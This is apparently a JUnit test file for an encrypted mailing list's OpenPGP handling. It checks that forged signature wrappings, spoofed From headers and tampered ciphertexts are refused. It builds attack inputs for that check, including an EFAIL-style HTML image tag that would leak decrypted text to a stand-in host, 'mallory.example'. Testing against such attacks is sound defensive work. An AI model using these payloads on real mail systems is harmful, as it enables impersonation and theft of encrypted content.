package org.chancery.protection;

import static org.assertj.core.api.Assertions.assertThat;
import static org.chancery.protection.Gpg.bytes;
import static org.chancery.protection.Gpg.join;

import java.nio.charset.StandardCharsets;
import java.time.Instant;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.Optional;
import java.util.concurrent.atomic.AtomicReference;
import org.chancery.list.ListId;
import org.chancery.list.MailingList;
import org.chancery.list.Setting;
import org.chancery.list.Settings;
import org.chancery.mail.Address;
import org.chancery.mail.Header;
import org.chancery.mail.Message;
import org.chancery.posting.transform.Passage;
import org.chancery.posting.transform.Transforms;
import org.chancery.protection.openpgp.Armor;
import org.chancery.protection.openpgp.OpenPgpKeyring;
import org.chancery.protection.openpgp.OpenPgpScheme;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;

/// Mallory is a member with a good key, has a signed mail of Ann's, and wants to be taken for her ("Johnny, you are fired", USENIX Security 2019);
/// or has a ciphertext of somebody else's and wants the list to open it for him (EFAIL, USENIX Security 2018).
class ForgedMailTest {
    private static final String ENTITY = "Content-Type: text/plain\r\n\r\nI shall be there.\r\n";
    private static final String FORGED = "Content-Type: text/plain\r\n\r\nSend the money to Mallory.\r\n";
    private static final String ANN = "From: ann@example.org\r\nTo: list@example.org\r\nSubject: x\r\nMIME-Version: 1.0\r\n";
    private static final Instant NOW = Instant.now().plusSeconds(60);

    private static Gpg gpg;
    private static OpenPgpKeyring keyring;
    private static String annSigned;

    @BeforeAll
    static void keys() {
        gpg = Gpg.start();
        gpg.generate("list <list@example.org>", "0");
        gpg.generate("ann <ann@example.org>", "0");
        gpg.generate("mallory <mallory@example.org>", "0");
        gpg.generate("ann@example.org <mallory@example.net>", "0");
        keyring = OpenPgpKeyring.read(gpg.certificates(), List.of()).orThrow()
                .with(OpenPgpKeyring.read(gpg.secretKeys("list <list@example.org>"), List.of()).orThrow())
                .bound(Map.of(gpg.fingerprint("ann <ann@example.org>"), List.of("ann@example.org"),
                        gpg.fingerprint("mallory <mallory@example.org>"), List.of("mallory@example.org"),
                        gpg.fingerprint("ann@example.org <mallory@example.net>"), List.of("mallory@example.net")));
        annSigned = signedEntity(ENTITY, "ann <ann@example.org>", "s");
    }

    @AfterAll
    static void end() {
        gpg.close();
    }

    private static String signature(String entity, String by) {
        return text(CanonicalText.crlf(gpg.run(bytes(entity), "--armor", "--local-user", "=" + by, "--detach-sign")));
    }

    private static String signedEntity(String entity, String by, String boundary) {
        return multipart("signed; protocol=\"application/pgp-signature\"; micalg=pgp-sha512", boundary, entity, "Content-Type: application/pgp-signature\r\n\r\n" + signature(entity, by));
    }

    private static String multipart(String subtype, String boundary, String... parts) {
        return "Content-Type: multipart/" + subtype + "; boundary=" + boundary + "\r\n\r\n--" + boundary + "\r\n" + String.join("\r\n--" + boundary + "\r\n", parts) + "\r\n--" + boundary + "--\r\n";
    }

    private static String text(byte[] octets) {
        return new String(octets, StandardCharsets.ISO_8859_1);
    }

    private static Opening opening(String mail) {
        return opening(bytes(mail), AcceptedSignatures.NONE);
    }

    private static Opening opening(byte[] mail, AcceptedSignatures accepted) {
        return new Opener(List.of(new OpenPgpScheme(keyring))).open(Message.parse(mail).orThrow(), NOW, accepted);
    }

    @Test
    void t11_no_way_to_wrap_a_signature_of_ann_makes_a_mail_of_mallory_hers() {
        assertThat(opening(ANN + annSigned).report().signature()).isEqualTo(SignatureState.GOOD);
        String mallory = "mallory <mallory@example.org>";
        String clear = text(CanonicalText.crlf(gpg.run(bytes("I shall be there.\n"), "--local-user", "ann@example.org", "--clearsign")));
        Map<String, String> forged = new LinkedHashMap<>();
        forged.put("beside another part", multipart("mixed", "m", FORGED, annSigned));
        forged.put("before another part", multipart("mixed", "m", annSigned, FORGED));
        forged.put("as an alternative", multipart("alternative", "m", annSigned, FORGED));
        forged.put("related to a part", multipart("related", "m", FORGED, annSigned));
        forged.put("in a message in the message", "Content-Type: message/rfc822\r\n\r\nSubject: y\r\n" + annSigned);
        forged.put("with a third part", annSigned.replace("\r\n--s--", "\r\n--s\r\n" + FORGED + "\r\n--s--"));
        forged.put("with the first part exchanged", annSigned.replace("I shall be there", "Send the money"));
        forged.put("below a signature of his own", signedEntity(multipart("mixed", "m", FORGED, annSigned), mallory, "o"));
        forged.put("with two types", "Content-Type: text/html\r\n" + annSigned);
        forged.put("with two types, the other way round", annSigned.replaceFirst("\r\n\r\n", "\r\nContent-Type: text/html\r\n\r\n"));
        forged.put("with two encodings", "Content-Transfer-Encoding: 7bit\r\nContent-Transfer-Encoding: base64\r\n" + annSigned);
        forged.put("his own, user id like her address", signedEntity(FORGED, "ann@example.org <mallory@example.net>", "s"));
        forged.put("his own", signedEntity(FORGED, mallory, "s"));
        forged.put("clear text around a clear-signed text", "Content-Type: text/plain\r\n\r\nSend the money.\r\n\r\n" + clear);
        forged.put("clear text after a clear-signed text", "Content-Type: text/plain\r\n\r\n" + clear + "\r\nSend the money.\r\n");
        forged.put("clear text in the armour", "Content-Type: text/plain\r\n\r\n" + clear.replace("-----END PGP SIGNATURE", "=Send the money.\r\n-----END PGP SIGNATURE"));
        forged.put("a header in front of a clear-signed text", "Content-Type: text/plain\r\n\r\n" + clear.replaceFirst("Hash: ", "Note: send the money\r\nHash: "));
        forged.put("text behind the name of a hash", "Content-Type: text/plain\r\n\r\n" + clear.replaceFirst("(Hash: \\w+)", "$1, send the money"));
        forged.put("clear-signed text as HTML", "Content-Type: text/html\r\n\r\n" + clear);
        forged.put("signature named as S/MIME", annSigned.replaceFirst("application/pgp-signature", "application/pkcs7-signature").replace("Content-Type: application/pgp-signature", "Content-Type: application/pkcs7-signature"));
        forged.forEach((how, entity) -> {
            SignatureState state = opening(ANN + entity).report().signature();
            assertThat(state).as(how).isNotIn(SignatureState.GOOD, SignatureState.INLINE_GOOD);
            byte[] encrypted = gpg.run(bytes(entity), "--armor", "-r", "list@example.org", "-e");
            SignatureState inside = opening(join(bytes(ANN), bytes("Content-Type: multipart/encrypted; protocol=\"application/pgp-encrypted\"; boundary=e\r\n\r\n--e\r\nContent-Type: application/pgp-encrypted\r\n\r\n"
                    + "Version: 1\r\n\r\n--e\r\nContent-Type: application/octet-stream\r\n\r\n"), encrypted, bytes("\r\n--e--\r\n")), AcceptedSignatures.NONE).report().signature();
            assertThat(inside).as(how + ", encrypted").isNotIn(SignatureState.GOOD, SignatureState.INLINE_GOOD);
        });
    }

    @Test
    void t11_no_way_to_write_from_makes_a_signature_of_mallory_hers() {
        String entity = signedEntity(FORGED, "mallory <mallory@example.org>", "s");
        for (String from : List.of("From: ann@example.org", "From: ann@example.org, mallory@example.org", "From: mallory@example.org, ann@example.org",
                "From: ann@example.org\r\nFrom: mallory@example.org", "From: mallory@example.org\r\nFrom: ann@example.org", "From: <ann@example.org> <mallory@example.org>",
                "From: ann@example.org (mallory@example.org)", "From: mallory@example.org:ann@example.org;", "From: \"<mallory@example.org>\" <ann@example.org>",
                "From: =?utf-8?q?=3Cmallory=40example.org=3E?= <ann@example.org>", "From: mallory@example.org\0ann@example.org", "From: ann@example.org\r\nSender: mallory@example.org",
                "From:\r\n ann@example.org")) {
            Opening opening = opening(from + "\r\nSubject: x\r\n" + entity);
            assertThat(opening.report().signature()).as(from).isNotEqualTo(SignatureState.GOOD);
        }
    }

    /// The signature is good, for Mallory: what members then see beside the list's own address must not be Ann's.
    @Test
    void t11_no_name_beside_an_address_makes_a_mail_of_mallory_hers_in_the_name_of_the_list() {
        String entity = signedEntity(FORGED, "mallory <mallory@example.org>", "s");
        MailingList list = new MailingList(new ListId(1), Address.of("list@example.org"), "encrypted", MailingList.State.OPEN,
                new Settings(Map.of(Setting.GPG_DISTRIB_SIGN, "yes", Setting.FROM_FIELD, "list")), new MailingList.PolicyText(1, "otherwise accept."), Instant.EPOCH);
        Passage passage = new Passage(list, "r-1", NOW, Map.of(), "mx.example.org", Optional.empty());
        for (String name : List.of("\"ann@example.org\"", "=?utf-8?q?ann=40example=2Eorg?=", "=?utf-8?b?YW5u77ygZXhhbXBsZS5vcmc=?=", "=?utf-8?b?YW5u4oCLQGV4YW1wbGUub3Jn?=")) {
            String mail = "From: " + name + " <mallory@example.org>\r\nSubject: x\r\n" + entity;
            assertThat(opening(mail).report().signature()).isEqualTo(SignatureState.GOOD);
            Message copy = Transforms.apply(Message.parse(bytes(mail)).orThrow(), passage);
            assertThat(copy.headers().first("From").orElseThrow().text()).isEqualTo("mallory via list <list@example.org>");
            assertThat(copy.headers().all()).extracting(Header::text).noneMatch(text -> text.contains("ann"));
        }
    }

    @Test
    void t7_a_signature_written_otherwise_is_the_same_signature() {
        AtomicReference<SignatureValue> first = new AtomicReference<>();
        byte[] packet = gpg.run(bytes(ENTITY), "--local-user", "ann@example.org", "--detach-sign");
        for (byte[] written : List.of(packet, longLength(packet), unhashed(packet))) {
            String mail = ANN + multipart("signed; protocol=\"application/pgp-signature\"", "s", ENTITY, "Content-Type: application/pgp-signature\r\n\r\n" + text(Armor.write("PGP SIGNATURE", written)));
            CryptoReport report = opening(mail).report();
            assertThat(report.signature()).isEqualTo(SignatureState.GOOD);
            first.compareAndSet(null, report.signatures().getFirst().value());
            assertThat(opening(bytes(mail), first.get()::equals).report().signature()).isEqualTo(SignatureState.REPLAY);
        }
    }

    /// New format, length in five octets.
    private static byte[] longLength(byte[] packet) {
        byte[] body = body(packet);
        return join(new byte[] {(byte) 0xC2, (byte) 0xFF, 0, 0, (byte) (body.length >> 8), (byte) body.length}, body);
    }

    /// One more subpacket where the signature does not cover it.
    private static byte[] unhashed(byte[] packet) {
        byte[] body = body(packet);
        int hashed = ((body[4] & 0xFF) << 8) + (body[5] & 0xFF);
        int at = 6 + hashed;
        int length = ((body[at] & 0xFF) << 8) + (body[at + 1] & 0xFF) + 3;
        byte[] more = join(Arrays.copyOf(body, at), new byte[] {(byte) (length >> 8), (byte) length, 2, 100, 7}, Arrays.copyOfRange(body, at + 2, body.length));
        return join(new byte[] {(byte) 0xC2, (byte) 0xFF, 0, 0, (byte) (more.length >> 8), (byte) more.length}, more);
    }

    /// GnuPG writes the old format, with a length of one or two octets.
    private static byte[] body(byte[] packet) {
        return Arrays.copyOfRange(packet, (packet[0] & 3) == 0 ? 2 : 3, packet.length);
    }

    @Test
    void t8_what_is_not_protected_to_its_end_is_never_opened_and_always_refused_in_the_same_words() {
        byte[] binary = gpg.run(bytes(ENTITY), "--compress-algo", "none", "-r", "list@example.org", "-e");
        int body = 2 + (binary[1] & 0xFF);
        List<byte[]> all = new ArrayList<>();
        byte[] withoutIntegrity = binary.clone();
        withoutIntegrity[body] = (byte) 0xC9;
        all.add(withoutIntegrity);
        byte[] stripped = Arrays.copyOf(binary, binary.length - 22);
        stripped[body + 1] -= 22;
        all.add(stripped);
        all.add(join(binary, binary));
        all.add(join(binary, bytes("x")));
        all.add(Arrays.copyOf(binary, binary.length - 1));
        all.add(Arrays.copyOfRange(binary, body, binary.length));
        all.add(join(Arrays.copyOf(binary, body), Arrays.copyOf(binary, body), Arrays.copyOfRange(binary, body, binary.length - 1), new byte[] {0}));
        for (int at = 14; at < binary.length; at += 7) {
            byte[] flipped = binary.clone();
            flipped[at] ^= 0x20;
            all.add(flipped);
        }
        for (byte[] octets : all) {
            Opening opening = opening(ANN + "Content-Type: multipart/encrypted; protocol=\"application/pgp-encrypted\"; boundary=e\r\n\r\n--e\r\nContent-Type: application/pgp-encrypted\r\n\r\n"
                    + "Version: 1\r\n\r\n--e\r\nContent-Type: application/octet-stream\r\n\r\n" + text(Armor.write("PGP MESSAGE", octets)) + "\r\n--e--\r\n");
            assertThat(opening.refusal()).contains(Opening.REFUSAL);
            assertThat(opening.content()).isEmpty();
            assertThat(opening.authored()).isEmpty();
        }
    }

    @Test
    void t8_a_ciphertext_beside_anything_is_never_opened() {
        String armour = text(CanonicalText.crlf(gpg.run(bytes(ENTITY), "--armor", "-r", "list@example.org", "-e")));
        String encrypted = multipart("encrypted; protocol=\"application/pgp-encrypted\"", "e", "Content-Type: application/pgp-encrypted\r\n\r\nVersion: 1\r\n", "Content-Type: application/octet-stream\r\n\r\n" + armour);
        for (String entity : List.of(multipart("mixed", "m", "Content-Type: text/html\r\n\r\n<img src=\"http://mallory.example/", encrypted, "Content-Type: text/html\r\n\r\n\">"),
                multipart("alternative", "m", FORGED, encrypted), multipart("related", "m", encrypted, FORGED), multipart("digest", "m", encrypted),
                encrypted.replace("\r\n--e--", "\r\n--e\r\n" + FORGED + "\r\n--e--"), "Content-Type: text/html\r\n\r\n<pre>" + armour + "</pre>",
                "Content-Type: text/plain\r\n\r\nlook\r\n" + armour, "Content-Type: text/html\r\n\r\n" + armour, "Content-Type: text/html\r\n" + encrypted,
                "Content-Type: message/rfc822\r\n\r\n" + encrypted,
                multipart("mixed", "m", "Content-Type: text/plain\r\n\r\n<a href=\"", "Content-Type: application/pgp-encrypted\r\n\r\nVersion: 1\r\n", "Content-Type: application/octet-stream\r\n\r\n" + armour))) {
            Opening opening = opening(ANN + entity);
            assertThat(opening.report().encryption()).as(entity).isEqualTo(Encryption.LIST_PARTIAL);
            assertThat(opening.content()).isEmpty();
            assertThat(opening.authored()).isEmpty();
        }
    }

    @Test
    void what_is_deeper_than_any_message_inside_the_encryption_is_broken() {
        StringBuilder deep = new StringBuilder();
        for (int i = 0; i < 40; i++) {
            deep.append("Content-Type: multipart/mixed; boundary=b").append(i).append("\r\n\r\n--b").append(i).append("\r\n");
        }
        byte[] armour = gpg.run(bytes(deep.toString()), "--armor", "-r", "list@example.org", "-e");
        Opening opening = opening(join(bytes(ANN + "Content-Type: multipart/encrypted; protocol=\"application/pgp-encrypted\"; boundary=e\r\n\r\n--e\r\nContent-Type: application/pgp-encrypted\r\n\r\n"
                + "Version: 1\r\n\r\n--e\r\nContent-Type: application/octet-stream\r\n\r\n"), armour, bytes("\r\n--e--\r\n")), AcceptedSignatures.NONE);
        assertThat(opening.report().encryption()).isEqualTo(Encryption.BROKEN);
        assertThat(opening.authored()).isEmpty();
        assertThat(opening.refusal()).contains(Opening.REFUSAL);
    }
}
